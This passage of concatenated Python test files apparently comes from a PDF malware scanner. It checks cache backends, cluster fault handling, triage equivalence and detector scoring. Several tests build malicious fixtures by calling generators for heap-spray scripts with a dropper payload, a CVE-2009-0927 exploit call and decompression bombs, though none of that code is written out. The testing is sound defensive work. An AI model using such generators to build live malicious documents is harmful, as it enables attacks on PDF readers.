        for t in threads:
            t.join(timeout=30)
        assert not errors
        for i, digest in enumerate(digests):
            got = backend.get(digest)
            assert got is not None, digest
            assert got.malscore == pytest.approx(i / 100.0)

    def test_flush_and_close_are_safe(self, harness):
        backend = harness.make()
        backend.put(DIGEST, summary())
        backend.flush()
        backend.close()


class TestDiskBackend:
    def test_file_stays_valid_json_under_writers(self, tmp_path):
        h = DiskHarness(tmp_path)
        backend = h.make()
        for i in range(8):
            backend.put(f"{i:02x}" * 32, summary())
        payload = json.loads(h.path.read_text())
        assert len(payload["entries"]) == 8

    def test_two_processes_worth_of_backends_merge(self, tmp_path):
        """Two backends on one path (the per-shard ``--cache disk``
        layout degenerate case): writes interleave, nothing is lost."""
        h = DiskHarness(tmp_path)
        a, b = h.make(), h.make()
        a.put(DIGEST, summary(score=0.5))
        b.put(OTHER, summary(score=0.7))
        assert a.get(OTHER) is not None
        assert b.get(DIGEST) is not None


class TestSocketBackendDegradation:
    def test_server_crash_degrades_to_local(self, tmp_path):
        server = CacheServer(fingerprint="fp").start()
        backend = SocketCacheBackend(
            server.address, fingerprint="fp", retry_seconds=60.0
        )
        backend.put(DIGEST, summary())
        assert backend.get(DIGEST) is not None  # local hit
        server.stop()
        # Local entries still serve; unknown digests are plain misses —
        # never an exception out of the cache layer.
        assert backend.get(DIGEST) is not None
        assert backend.get(OTHER) is None
        backend.put(OTHER, summary(score=0.1))
        assert backend.get(OTHER) is not None
        assert backend.stats["degraded"] is True
        assert backend.stats["remote_errors"] >= 1

    def test_remote_hit_populates_local(self, tmp_path):
        server = CacheServer(fingerprint="fp").start()
        try:
            writer = SocketCacheBackend(server.address, fingerprint="fp")
            writer.put(DIGEST, summary())
            reader = SocketCacheBackend(server.address, fingerprint="fp")
            assert reader.get(DIGEST) is not None
            assert reader.stats["remote_hits"] == 1
            # Second lookup is a pure local hit.
            assert reader.get(DIGEST) is not None
            assert reader.stats["remote_hits"] == 1
        finally:
            server.stop()


class TestCacheSpec:
    def test_kinds_materialise(self, tmp_path):
        assert build_backend(CacheSpec(kind="none"), "fp") is False
        assert isinstance(
            build_backend(CacheSpec(kind="memory"), "fp"), VerdictCache
        )
        disk = build_backend(
            CacheSpec(kind="disk", path=str(tmp_path / "c.json")), "fp"
        )
        assert isinstance(disk, DiskCacheBackend)

    def test_bad_specs_rejected(self):
        with pytest.raises(ValueError):
            CacheSpec(kind="bogus")
        with pytest.raises(ValueError):
            CacheSpec(kind="disk")  # no path
        with pytest.raises(ValueError):
            build_backend(CacheSpec(kind="server"), "fp")  # no address
