"""Fault-injection battery: the cluster's failure contract, enforced.

Every scenario here asserts two things at once — the *structured*
response (a 503 with a stable ``reason`` and a ``Retry-After`` hint,
or a 404 that explains itself) and the *bounded* response time (a
killed or wedged shard must never turn into a hanging request).

Scenarios:

* SIGKILL a shard while it is mid-scan — the caller gets a structured
  503 ``shard-failure``, promptly;
* the dead shard's hash range immediately re-routes to ring
  successors;
* the respawned shard serves the same digest with the identical
  verdict;
* a *wedged* (sleeping, not dead) shard trips the abandoned-worker
  signal and is drained + respawned within the probe budget;
* shard restarts invalidate process-local async jobs with a 404
  ``shard-restarted`` (the JobRegistry affinity regression test);
* the shared cache server crashing degrades shards to their local
  caches without failing a single scan.
"""

from __future__ import annotations

import os
import signal
import threading
import time

import pytest

from repro.batch.cache import content_digest
from repro.cluster import CacheSpec

from tests.cluster.conftest import cluster_config
from tests.serve.conftest import assert_verdict_matches

pytestmark = pytest.mark.cluster

#: Any single fault-path request must resolve well inside this.
RESPONSE_BOUND_SECONDS = 20.0

WEDGE_MARKER = "sleepy"


def doc_named(name: str, text: str = "fault corpus") -> bytes:
    from repro.pdf.builder import DocumentBuilder

    doc = DocumentBuilder()
    doc.add_page(text)
    doc.add_javascript(f"var tag = {name!r};")
    return doc.to_bytes()


def doc_owned_by(router, shard_id: int, name: str) -> bytes:
    """A unique document whose digest the ring maps to ``shard_id``."""
    for i in range(512):
        data = doc_named(name, text=f"{name} variant {i}")
        if router.ring.owner(content_digest(data)) == shard_id:
            return data
    raise AssertionError(f"no document landed on shard {shard_id}")


class TestShardKill:
    def test_sigkill_mid_scan_is_structured_not_a_hang(self, make_cluster):
        """Kill the shard while it is actively scanning for us."""
        router = make_cluster(
            cluster_config(shards=3),
            wedge_marker=WEDGE_MARKER, wedge_seconds=30.0,
        )
        victim = 0
        # The wedge marker holds this scan open inside the victim shard
        # so the SIGKILL provably lands mid-request.
        data = doc_owned_by(router, victim, f"{WEDGE_MARKER}-hold")
        outcome = {}

        def scan() -> None:
            outcome["result"] = router.handle_scan(
                data, f"{WEDGE_MARKER}-hold.pdf"
            )

        worker = threading.Thread(target=scan)
        started = time.monotonic()
        worker.start()
        time.sleep(0.5)  # let the request reach the shard
        pid = router.shards[victim].process.pid
        os.kill(pid, signal.SIGKILL)
        worker.join(timeout=RESPONSE_BOUND_SECONDS)
        assert not worker.is_alive(), "request hung after shard SIGKILL"
        elapsed = time.monotonic() - started
        assert elapsed < RESPONSE_BOUND_SECONDS

        result = outcome["result"]
        assert result.status == 503
        assert result.payload["reason"] == "shard-failure"
        assert result.payload["shard"] == victim
        assert result.payload["sha256"] == content_digest(data)
        assert result.retry_after is not None

        # The failing request itself marked the shard dead, so the hash
        # range re-routes *immediately* — no probe tick needed.
        rerouted = router.handle_scan(
            doc_owned_by(router, victim, "reroute-me"), "reroute-me.pdf"
        )
        assert rerouted.status == 200
        assert rerouted.payload["shard"] != victim

        # ...and the respawned shard serves its range again, with the
        # identical verdict for the identical digest.
        assert router.wait_all_live(timeout=30.0), "shard never respawned"
        assert router.shards[victim].generation == 1
        recovered = doc_owned_by(router, victim, "post-respawn")
        first = router.handle_scan(recovered, "post-respawn.pdf")
        assert first.status == 200
        assert first.payload["shard"] == victim
        stats = router.stats()
        assert stats["respawns"], stats

    def test_idle_shard_kill_reroutes_silently(self, make_cluster):
        """A shard that died *between* requests: the router discovers
        the corpse at connect time, which is safe to re-route (nothing
        executed), so the caller sees a plain 200 from a neighbour."""
        router = make_cluster(cluster_config(
            shards=2,
            probe_interval=30.0,  # the request, not the probe, finds it
        ))
        victim = 1
        data = doc_owned_by(router, victim, "idle-kill")
        os.kill(router.shards[victim].process.pid, signal.SIGKILL)
        time.sleep(0.1)  # let the kernel tear the listener down
        started = time.monotonic()
        result = router.handle_scan(data, "idle-kill.pdf")
        assert time.monotonic() - started < RESPONSE_BOUND_SECONDS
        assert result.status == 200
        assert result.payload["shard"] != victim
        assert router.stats()["reroutes"] >= 1


class TestWedgedShard:
    def test_wedge_trips_abandoned_worker_and_respawns(self, make_cluster):
        """A sleeping shard is worse than a dead one — nothing errors,
        it just stops making progress.  The serve layer's abandoned-
        worker accounting is the wedge signal; the supervisor must act
        on it within the probe budget."""
        router = make_cluster(
            cluster_config(shards=2, deadline_seconds=2.0),
            wedge_marker=WEDGE_MARKER, wedge_seconds=60.0,
        )
        victim = 0
        data = doc_owned_by(router, victim, f"{WEDGE_MARKER}-wedge")
        started = time.monotonic()
        result = router.handle_scan(data, f"{WEDGE_MARKER}-wedge.pdf")
        # The shard's own deadline abandons the scan: structured, fast.
        assert result.status == 503
        assert time.monotonic() - started < RESPONSE_BOUND_SECONDS
        assert result.retry_after is not None

        # Probe budget: interval + probe timeout + drain grace, with
        # slack for the respawn itself.
        config = router.config
        budget = (
            config.probe_interval + config.probe_timeout
            + config.terminate_grace + 15.0
        )
        deadline = time.monotonic() + budget
        while time.monotonic() < deadline:
            if router.shards[victim].generation >= 1:
                break
            time.sleep(0.05)
        else:
            pytest.fail("supervisor never respawned the wedged shard")
        assert "wedged" in router.stats()["respawns"]

        assert router.wait_all_live(timeout=30.0)
        clean = router.handle_scan(
            doc_owned_by(router, victim, "awake-again"), "awake.pdf"
        )
        assert clean.status == 200


class TestJobAffinityAcrossRestarts:
    def test_poll_after_respawn_is_shard_restarted(self, make_cluster):
        """Async jobs live in shard memory; a respawn must surface as a
        structured 404, never as a misleading 'unknown job' from the
        replacement process (the JobRegistry process-locality fix)."""
        router = make_cluster(cluster_config(shards=2))
        data = doc_named("affinity-job")
        submitted = router.handle_async_submit(data, "affinity-job.pdf")
        assert submitted.status == 202
        token = submitted.payload["job"]
        shard = submitted.payload["shard"]

        router.respawn_shard(shard, reason="test-restart")
        assert router.wait_all_live(timeout=30.0)
        polled = router.handle_job_status(token)
        assert polled.status == 404
        assert polled.payload["reason"] == "shard-restarted"
        assert polled.payload["shard"] == shard

        # Resubmission works and carries the bumped generation.
        again = router.handle_async_submit(data, "affinity-job.pdf")
        assert again.status == 202
        generation = router.shards[again.payload["shard"]].generation
        assert f".g{generation}." in again.payload["job"]

    def test_no_live_shard_is_structured_503(self, make_cluster):
        router = make_cluster(cluster_config(
            shards=2, probe_interval=30.0,
        ))
        saved = [handle.state for handle in router.shards]
        for handle in router.shards:
            handle.state = "dead"
        try:
            result = router.handle_scan(doc_named("nowhere"), "nowhere.pdf")
        finally:
            for handle, state in zip(router.shards, saved):
                handle.state = state
        assert result.status == 503
        assert result.payload["reason"] == "no-live-shards"
        assert result.retry_after is not None


class TestCacheServerCrash:
    def test_shards_degrade_to_local_cache(self, make_cluster,
                                           corpus_docs, expected_verdicts):
        """SIGKILL the shared cache server: scans keep succeeding on
        shard-local caches; nothing errors, nothing hangs."""
        router = make_cluster(
            cluster_config(shards=2), cache=CacheSpec(kind="server"),
        )
        warm = router.handle_scan(corpus_docs["benign.pdf"], "benign.pdf")
        assert warm.status == 200

        assert router.kill_cache_server() is True

        started = time.monotonic()
        for name, expected in expected_verdicts.items():
            result = router.handle_scan(corpus_docs[name], name)
            assert result.status == 200, (name, result.payload)
            assert_verdict_matches(result.payload, expected, name)
        assert time.monotonic() - started < RESPONSE_BOUND_SECONDS

        # The warmed digest still hits the shard-local cache tier.
        again = router.handle_scan(corpus_docs["benign.pdf"], "benign.pdf")
        assert again.status == 200
        assert again.payload["cached"] is True
