"""Fail-open properties of the abstract-interpretation proof tier.

The verdict contract under adversarial conditions:

* ``run_absint`` never raises, whatever the input;
* under *any* step budget, exhaustion can only weaken the claim toward
  ``unknown`` — PROVEN-BENIGN is never granted to a run that did not
  finish (PROVEN-MALICIOUS may survive: its must-facts were recorded
  before the cutoff and remain valid);
* benign-direction triage eligibility is never granted on a
  budget-exhausted or errored analysis.
"""

from __future__ import annotations

import random

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from repro import limits as limits_mod
from repro.corpus import js_snippets as js
from repro.corpus.obfuscated import (
    obfuscated_benign_script,
    obfuscated_spray_script,
)
from repro.jsast.analyzer import analyze_script
from repro.jsast.rules_absint import run_absint
from repro.limits import ScanLimits
from repro.reader.payload import Payload

pytestmark = pytest.mark.absint


def _spray():
    return js.spray_script(
        150,
        Payload.dropper(),
        rng=random.Random(1),
        exploit_call=js.exploit_call_for("CVE-2009-0927", random.Random(1)),
    )


#: Scripts spanning every verdict class at full budget.
SCRIPT_POOL = [
    js.benign_form_script(random.Random(3)),
    js.benign_page_script(),
    js.benign_soap_script(),
    _spray(),
    js.export_launch_script(),
    obfuscated_benign_script(layers=2),
    obfuscated_spray_script(target_mb=110, layers=2),
    "var = ;;; <<<",
    "",
]

VERDICTS = ("proven-benign", "proven-malicious", "unknown")


@given(
    script=st.sampled_from(SCRIPT_POOL),
    budget=st.integers(min_value=1, max_value=5000),
)
@settings(
    max_examples=60, deadline=None,
    suppress_health_check=[HealthCheck.too_slow],
)
def test_budget_exhaustion_fails_open(script, budget):
    with limits_mod.activate(ScanLimits(max_absint_steps=budget)):
        section = run_absint(script)
    assert section["verdict"] in VERDICTS
    if section["status"] == "budget-exhausted":
        # A truncated run can keep a malicious proof (must-facts are
        # stable once recorded) but must never claim benignity.
        assert section["verdict"] != "proven-benign"


@given(
    script=st.sampled_from(SCRIPT_POOL),
    budget=st.integers(min_value=1, max_value=5000),
)
@settings(
    max_examples=30, deadline=None,
    suppress_health_check=[HealthCheck.too_slow],
)
def test_benign_triage_never_granted_on_truncated_analysis(script, budget):
    with limits_mod.activate(ScanLimits(max_absint_steps=budget)):
        report = analyze_script(script)
    if report.absint and report.absint["status"] != "ok":
        assert not report.proven_benign
        # Eligibility may still hold via the classic path, but only
        # for scripts the one-shot rules see completely.
        if report.triage_eligible:
            assert report.parse_error is None
            assert not report.suspicious
            assert not report.side_effect_apis


@given(text=st.text(max_size=400))
@settings(
    max_examples=80, deadline=None,
    suppress_health_check=[HealthCheck.too_slow],
)
def test_arbitrary_input_never_raises(text):
    section = run_absint(text)
    assert section["verdict"] in VERDICTS
    # Hostile noise never parses into a benignity proof *and* a
    # malicious proof at once.
    assert isinstance(section["proofs"], list)


@given(budget=st.integers(min_value=1, max_value=200_000))
@settings(
    max_examples=25, deadline=None,
    suppress_health_check=[HealthCheck.too_slow],
)
def test_verdict_monotone_under_budget(budget):
    """A budget can flip a full-budget proof only to ``unknown`` —
    never to the opposite proof."""
    script = _spray()
    full = run_absint(script)
    with limits_mod.activate(ScanLimits(max_absint_steps=budget)):
        constrained = run_absint(script)
    assert full["verdict"] == "proven-malicious"
    assert constrained["verdict"] in ("proven-malicious", "unknown")
