"""Triage-equivalence property (ISSUE 3 satellite 6; refined by the
abstract-interpretation proof tier of ISSUE 8).

For any corpus drawn from a fixed document pool, ``pipeline.scan`` with
the triage fast path enabled must agree with the full-emulation run:

* a document triaged **benign** produces a byte-identical verdict
  (same flag, malscore and feature bits) — the synthesised verdict is
  exactly what a full run reports for a clean document;
* a document triaged **malicious** (statically *proven*) must be one
  the full run also flags: convicted by malscore, or crashed by its
  own exploit (a crash is a detection event — see
  ``maybe_deinstrument``).  Exact feature bits are not required: the
  proof guarantees the behaviour, not the payload-dependent bit mix.
* an untriaged document runs full emulation in both configurations and
  must match exactly.

The pool mixes triage-eligible documents (no JS, clean JS), documents
that are clean but triage-ineligible (SOAP side-effect channel), a
provably malicious spray document, and unparseable garbage, so the
property exercises every branch of the fast path.
"""

import pytest
from hypothesis import HealthCheck, given, settings, strategies as st

from repro.core.pipeline import ProtectionPipeline
from repro.corpus import js_snippets as js
from repro.pdf.builder import DocumentBuilder
from tests.conftest import spray_js

pytestmark = pytest.mark.batch

SEED = 7


def _pool():
    docs = []

    plain = DocumentBuilder()
    plain.add_page("no javascript at all")
    docs.append(("plain.pdf", plain.to_bytes()))

    benign_js = DocumentBuilder()
    benign_js.add_page("benign js")
    benign_js.add_javascript("var x = 2 + 2; app.alert('x=' + x);")
    docs.append(("benign-js.pdf", benign_js.to_bytes()))

    soap = DocumentBuilder()
    soap.add_page("soap client")
    soap.add_javascript(js.benign_soap_script())
    docs.append(("soap.pdf", soap.to_bytes()))

    malicious = DocumentBuilder()
    malicious.add_page("")
    malicious.add_javascript(spray_js())
    docs.append(("malicious.pdf", malicious.to_bytes()))

    broken_js = DocumentBuilder()
    broken_js.add_page("broken js")
    broken_js.add_javascript("var = ;;; <<<")
    docs.append(("broken-js.pdf", broken_js.to_bytes()))

    garbage = ("garbage.pdf", b"%PDF-1.4 truncated nonsense without objects")
    docs.append(garbage)
    return docs


POOL = _pool()

corpus_strategy = st.lists(
    st.integers(min_value=0, max_value=len(POOL) - 1), min_size=0, max_size=6
)


def _agrees(fast, full):
    """One document's fast-path report vs its full-emulation report."""
    if fast.triaged and fast.verdict.malicious:
        # Statically proven malicious: the full run must flag it too —
        # by score, or by crashing on its own exploit.
        return full.verdict.malicious or full.crashed
    return (
        fast.verdict.malicious,
        fast.verdict.malscore,
        fast.verdict.features.bits,
    ) == (
        full.verdict.malicious,
        full.verdict.malscore,
        full.verdict.features.bits,
    )


@given(picks=corpus_strategy)
@settings(
    max_examples=10, deadline=None,
    suppress_health_check=[HealthCheck.too_slow],
)
def test_triage_never_changes_a_verdict(picks):
    fast_pipeline = ProtectionPipeline(seed=SEED, triage=True)
    full_pipeline = ProtectionPipeline(seed=SEED, triage=False)
    for i in picks:
        name, data = POOL[i]
        fast = fast_pipeline.scan(data, name)
        full = full_pipeline.scan(data, name)
        assert _agrees(fast, full), name


def test_triage_actually_skips_on_this_pool():
    # Guard against the property passing vacuously: the pool must
    # exercise benign triage, proven-malicious triage, and fall-through.
    pipeline = ProtectionPipeline(seed=SEED, triage=True)
    reports = {name: pipeline.scan(data, name) for name, data in POOL}
    assert reports["plain.pdf"].triaged
    assert reports["benign-js.pdf"].triaged
    assert not reports["plain.pdf"].verdict.malicious
    # The spray document is *proven* malicious and triaged that way.
    assert reports["malicious.pdf"].triaged
    assert reports["malicious.pdf"].verdict.malicious
    assert reports["malicious.pdf"].outcome is None
    # The rest fall open to full emulation.
    assert not reports["soap.pdf"].triaged
    assert not reports["broken-js.pdf"].triaged
    assert not reports["garbage.pdf"].triaged
