"""Triage-equivalence property (ISSUE 3, satellite 6).

For any corpus drawn from a fixed document pool, the multiset of
``pipeline.scan`` verdicts with the benign-triage fast path enabled is
identical to the multiset with it disabled.  Triage may only change
*how* a verdict is reached (skipping emulation for statically clean
documents), never *what* the verdict is.

The pool mixes triage-eligible documents (no JS, clean JS), documents
that are clean but triage-ineligible (SOAP side-effect channel), a
malicious spray document, and unparseable garbage, so the property
exercises both branches of the fast path.
"""

import pytest
from hypothesis import HealthCheck, given, settings, strategies as st

from repro.core.pipeline import ProtectionPipeline
from repro.corpus import js_snippets as js
from repro.pdf.builder import DocumentBuilder
from tests.conftest import spray_js

pytestmark = pytest.mark.batch

SEED = 7


def _pool():
    docs = []

    plain = DocumentBuilder()
    plain.add_page("no javascript at all")
    docs.append(("plain.pdf", plain.to_bytes()))

    benign_js = DocumentBuilder()
    benign_js.add_page("benign js")
    benign_js.add_javascript("var x = 2 + 2; app.alert('x=' + x);")
    docs.append(("benign-js.pdf", benign_js.to_bytes()))

    soap = DocumentBuilder()
    soap.add_page("soap client")
    soap.add_javascript(js.benign_soap_script())
    docs.append(("soap.pdf", soap.to_bytes()))

    malicious = DocumentBuilder()
    malicious.add_page("")
    malicious.add_javascript(spray_js())
    docs.append(("malicious.pdf", malicious.to_bytes()))

    broken_js = DocumentBuilder()
    broken_js.add_page("broken js")
    broken_js.add_javascript("var = ;;; <<<")
    docs.append(("broken-js.pdf", broken_js.to_bytes()))

    garbage = ("garbage.pdf", b"%PDF-1.4 truncated nonsense without objects")
    docs.append(garbage)
    return docs


POOL = _pool()

corpus_strategy = st.lists(
    st.integers(min_value=0, max_value=len(POOL) - 1), min_size=0, max_size=6
)


def _verdict_multiset(triage, items):
    pipeline = ProtectionPipeline(seed=SEED, triage=triage)
    out = []
    for name, data in items:
        report = pipeline.scan(data, name)
        out.append(
            (
                name,
                report.verdict.malicious,
                report.verdict.malscore,
                report.verdict.features.bits,
            )
        )
    return sorted(out)


@given(picks=corpus_strategy)
@settings(
    max_examples=10, deadline=None,
    suppress_health_check=[HealthCheck.too_slow],
)
def test_triage_never_changes_a_verdict(picks):
    items = [POOL[i] for i in picks]
    assert _verdict_multiset(True, items) == _verdict_multiset(False, items)


def test_triage_actually_skips_on_this_pool():
    # Guard against the property passing vacuously: the pool must
    # contain both triaged and fully-emulated documents.
    pipeline = ProtectionPipeline(seed=SEED, triage=True)
    triaged = {
        name
        for name, data in POOL
        if pipeline.scan(data, name).triaged
    }
    assert "plain.pdf" in triaged
    assert "benign-js.pdf" in triaged
    assert "malicious.pdf" not in triaged
    assert "soap.pdf" not in triaged
    assert "broken-js.pdf" not in triaged
    assert "garbage.pdf" not in triaged
