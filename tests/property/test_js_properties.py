"""Property-based tests for the JavaScript engine."""

import string

from hypothesis import given, settings, strategies as st

from repro.core.monitor_code import (
    ENCRYPTION_SCHEMES,
    decrypt_script,
    encrypt_script,
    js_string_literal,
)
from repro.js import evaluate
from repro.js.values import (
    format_number,
    loose_equals,
    strict_equals,
    to_int32,
    to_number,
    to_uint32,
)

safe_text = st.text(
    alphabet=st.characters(min_codepoint=1, max_codepoint=0xFFFF,
                           blacklist_categories=("Cs",)),
    max_size=60,
)


@given(safe_text)
@settings(max_examples=120)
def test_string_literal_roundtrip_through_engine(text):
    """Escaping any text into a JS literal and evaluating recovers it —
    the property the instrumenter's escaping step relies on."""
    assert evaluate(js_string_literal(text)) == text


@given(safe_text, st.sampled_from(ENCRYPTION_SCHEMES), st.integers(3, 4000))
@settings(max_examples=100)
def test_script_encryption_roundtrip(text, scheme, key):
    assert decrypt_script(encrypt_script(text, scheme, key)) == text


@given(st.integers(-(2**40), 2**40))
def test_to_int32_is_32_bit(value):
    result = to_int32(float(value))
    assert -(2**31) <= result < 2**31
    assert (result - value) % (2**32) == 0


@given(st.integers(-(2**40), 2**40))
def test_to_uint32_range(value):
    result = to_uint32(float(value))
    assert 0 <= result < 2**32


@given(st.floats(allow_nan=False, allow_infinity=False, width=32))
def test_number_formatting_reparses(value):
    text = format_number(float(value))
    assert to_number(text) == float(value)


@given(st.one_of(st.floats(allow_nan=False), st.text(max_size=8), st.booleans(), st.none()))
def test_strict_equals_reflexive(value):
    assert strict_equals(value, value)


@given(st.one_of(st.floats(allow_nan=False), st.text(max_size=8), st.booleans()))
def test_loose_equals_consistent_with_strict(value):
    if strict_equals(value, value):
        assert loose_equals(value, value)


@given(st.integers(-1000, 1000), st.integers(-1000, 1000))
def test_engine_arithmetic_matches_python(a, b):
    assert evaluate(f"({a}) + ({b})") == float(a + b)
    assert evaluate(f"({a}) * ({b})") == float(a * b)
    assert evaluate(f"({a}) - ({b})") == float(a - b)


@given(st.lists(st.integers(-100, 100), min_size=1, max_size=12))
@settings(max_examples=60)
def test_array_sort_matches_python(values):
    joined = ",".join(str(v) for v in values)
    result = evaluate(f"[{joined}].sort(function(a,b){{return a-b;}}).join(',')")
    expected = ",".join(str(v) for v in sorted(values))
    assert result == expected


@given(st.text(alphabet=string.ascii_letters, min_size=0, max_size=30),
       st.text(alphabet=string.ascii_letters, min_size=1, max_size=5))
@settings(max_examples=60)
def test_index_of_matches_python(haystack, needle):
    result = evaluate(f"{js_string_literal(haystack)}.indexOf({js_string_literal(needle)})")
    assert result == float(haystack.find(needle))


@given(st.text(alphabet=string.printable, max_size=40))
@settings(max_examples=60)
def test_unescape_escape_roundtrip(text):
    literal = js_string_literal(text)
    assert evaluate(f"unescape(escape({literal}))") == text
