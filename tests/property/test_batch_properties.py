"""Batch-scanning properties (ISSUE 2).

1. For any corpus and any worker count, the batch verdict multiset
   equals the multiset of sequential ``pipeline.scan`` verdicts.
2. Caching on vs off never changes a verdict.
3. Duplicate inputs produce exactly one underlying scan.

The document pool is small and fixed; hypothesis explores which
documents (with repetition) form the corpus and how many workers scan
it.  Per-document verdicts are seed-determined and order-independent
(see ``test_robustness.test_pipeline_is_deterministic``), so the
sequential multiset can be computed once per pool document.
"""

import threading

import pytest
from hypothesis import HealthCheck, given, settings, strategies as st

from repro.batch import BatchScanner
from repro.core.pipeline import PipelineSettings, ProtectionPipeline
from repro.pdf.builder import DocumentBuilder

pytestmark = pytest.mark.batch

SEED = 7
SETTINGS = PipelineSettings(seed=SEED)


def _pool():
    docs = []

    plain = DocumentBuilder()
    plain.add_page("no javascript at all")
    docs.append(("plain.pdf", plain.to_bytes()))

    benign_js = DocumentBuilder()
    benign_js.add_page("benign js")
    benign_js.add_javascript("var x = 2 + 2; app.alert('x=' + x);")
    docs.append(("benign-js.pdf", benign_js.to_bytes()))

    two_scripts = DocumentBuilder()
    two_scripts.add_page("two scripts")
    two_scripts.add_javascript("var a = 1;")
    two_scripts.add_javascript("var b = 2;", trigger="Names", name="b")
    docs.append(("two-scripts.pdf", two_scripts.to_bytes()))

    from tests.conftest import spray_js

    malicious = DocumentBuilder()
    malicious.add_page("")
    malicious.add_javascript(spray_js())
    docs.append(("malicious.pdf", malicious.to_bytes()))

    garbage = ("garbage.pdf", b"%PDF-1.4 truncated nonsense without objects")
    docs.append(garbage)
    return docs


POOL = _pool()


def _sequential_verdicts():
    pipeline = ProtectionPipeline(seed=SEED)
    verdicts = {}
    for name, data in POOL:
        report = pipeline.scan(data, name)
        verdicts[name] = (report.verdict.malicious, report.verdict.malscore)
    return verdicts


SEQUENTIAL = _sequential_verdicts()

corpus_strategy = st.lists(
    st.integers(min_value=0, max_value=len(POOL) - 1), min_size=0, max_size=6
)


@given(picks=corpus_strategy, jobs=st.sampled_from([1, 2, 4]))
@settings(
    max_examples=12, deadline=None,
    suppress_health_check=[HealthCheck.too_slow],
)
def test_batch_equals_sequential_multiset(picks, jobs):
    items = [POOL[i] for i in picks]
    report = BatchScanner(jobs=jobs, settings=SETTINGS, cache=False).scan_items(items)
    expected = sorted(
        (name, SEQUENTIAL[name][0], SEQUENTIAL[name][1]) for name, _ in items
    )
    assert report.verdict_multiset() == expected
    assert len(report.items) == len(items)


@given(picks=corpus_strategy)
@settings(
    max_examples=8, deadline=None,
    suppress_health_check=[HealthCheck.too_slow],
)
def test_cache_on_off_same_verdicts(picks):
    items = [POOL[i] for i in picks]
    cached = BatchScanner(jobs=2, settings=SETTINGS).scan_items(items)
    uncached = BatchScanner(jobs=2, settings=SETTINGS, cache=False).scan_items(items)
    assert cached.verdict_multiset() == uncached.verdict_multiset()


class CountingFactory:
    """Builds real forked pipelines but counts every scan launched."""

    def __init__(self):
        self.lock = threading.Lock()
        self.scans = 0

    def __call__(self):
        factory_self = self
        pipeline = SETTINGS.build()

        class Counted:
            def scan(self, data, name):
                with factory_self.lock:
                    factory_self.scans += 1
                return pipeline.scan(data, name)

        return Counted()


@given(
    picks=st.lists(
        st.integers(min_value=0, max_value=len(POOL) - 1),
        min_size=1, max_size=4,
    ),
    copies=st.integers(min_value=2, max_value=4),
)
@settings(
    max_examples=8, deadline=None,
    suppress_health_check=[HealthCheck.too_slow],
)
def test_duplicates_scanned_exactly_once(picks, copies):
    unique = sorted(set(picks))
    items = [POOL[i] for i in unique] * copies
    counter = CountingFactory()
    report = BatchScanner(
        jobs=4, settings=SETTINGS, pipeline_factory=counter
    ).scan_items(items)
    assert counter.scans == len(unique)
    assert report.scans_executed == len(unique)
    assert report.cache_hits == len(unique) * (copies - 1)
    assert len(report.items) == len(items)
