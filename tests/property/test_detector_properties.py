"""Property-based tests for detector invariants (Eq. 1 / Table VII)."""

from hypothesis import given, strategies as st

from repro.core.detector import DetectorConfig, FeatureVector

bits13 = st.tuples(*([st.integers(0, 1)] * 13))


@given(bits13)
def test_paper_criterion_holds_for_all_vectors(bits):
    """For the Table VII parameters, malscore ≥ θ iff at least one
    in-JS feature fires together with any other feature (or two in-JS
    features fire) — exhaustive over random corners of the 2^13 cube."""
    config = DetectorConfig()
    vector = FeatureVector(bits)
    others = sum(bits[0:7])
    in_js = sum(bits[7:13])
    expected = (in_js >= 1 and others >= 1) or in_js >= 2
    assert (vector.malscore(config) >= config.threshold) == expected


@given(bits13)
def test_malscore_monotone_in_features(bits):
    """Adding a feature never lowers the malscore."""
    config = DetectorConfig()
    base = FeatureVector(bits).malscore(config)
    for index in range(13):
        if bits[index] == 0:
            raised = list(bits)
            raised[index] = 1
            assert FeatureVector(tuple(raised)).malscore(config) >= base


@given(bits13)
def test_malscore_decomposition(bits):
    config = DetectorConfig()
    vector = FeatureVector(bits)
    assert vector.malscore(config) == config.w1 * sum(bits[0:7]) + config.w2 * sum(
        bits[7:13]
    )


@given(bits13)
def test_fired_matches_bits(bits):
    vector = FeatureVector(bits)
    assert vector.fired() == [i + 1 for i in range(13) if bits[i]]
    assert vector.any_in_js == any(bits[7:13])


@given(bits13, st.floats(0.5, 20.0), st.floats(0.5, 20.0))
def test_custom_weights_respected(bits, w1, w2):
    config = DetectorConfig(w1=w1, w2=w2)
    vector = FeatureVector(bits)
    expected = w1 * sum(bits[0:7]) + w2 * sum(bits[7:13])
    assert abs(vector.malscore(config) - expected) < 1e-9


def test_exhaustive_all_8192_vectors():
    """Not just sampled: every one of the 2^13 vectors obeys the
    detection criterion (cheap enough to enumerate)."""
    config = DetectorConfig()
    for mask in range(2**13):
        bits = tuple((mask >> i) & 1 for i in range(13))
        vector = FeatureVector(bits)
        others = sum(bits[0:7])
        in_js = sum(bits[7:13])
        expected = (in_js >= 1 and others >= 1) or in_js >= 2
        assert (vector.malscore(config) >= config.threshold) == expected
