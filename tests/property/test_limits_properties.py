"""Property: scanning any document from the malformed corpus (at any
size parameter) either completes with a verdict or yields a structured
budget-errored report — never an unhandled exception, hang or crash."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.core.pipeline import ProtectionPipeline
from repro.limits import ScanLimits
from tests.data import malformed

TIGHT = ScanLimits(
    max_stream_bytes=128 * 1024,
    max_document_bytes=512 * 1024,
    max_filter_depth=6,
    max_objects=1500,
    max_nesting_depth=60,
    deadline_seconds=10.0,
)

KNOWN_KINDS = {
    "stream-bytes", "document-bytes", "filter-depth", "object-count",
    "ref-hops", "nesting-depth", "deadline", "js-steps",
}


def _assert_structured(report):
    """Completed-or-budget-errored, with well-formed evidence."""
    if report.errored:
        assert report.error
        if report.limit_kind is not None:
            assert report.limit_kind in KNOWN_KINDS
            assert report.limit_kind in report.verdict.reasons[0]
    else:
        assert report.verdict is not None
    # serialisation never chokes on any outcome
    assert isinstance(report.to_dict(), dict)


@pytest.mark.parametrize("name", sorted(malformed.BUILDERS))
def test_corpus_member_is_structured(name):
    pipeline = ProtectionPipeline(limits=TIGHT)
    report = pipeline.scan(malformed.BUILDERS[name](), f"{name}.pdf")
    _assert_structured(report)


@settings(max_examples=15, deadline=None)
@given(
    builder=st.sampled_from(
        ["decompression_bomb", "filter_cascade_bomb", "deep_page_tree",
         "object_flood", "truncated_stream"]
    ),
    scale=st.integers(min_value=1, max_value=40),
)
def test_scaled_bombs_are_structured(builder, scale):
    data = {
        "decompression_bomb": lambda: malformed.decompression_bomb(
            scale * 64 * 1024
        ),
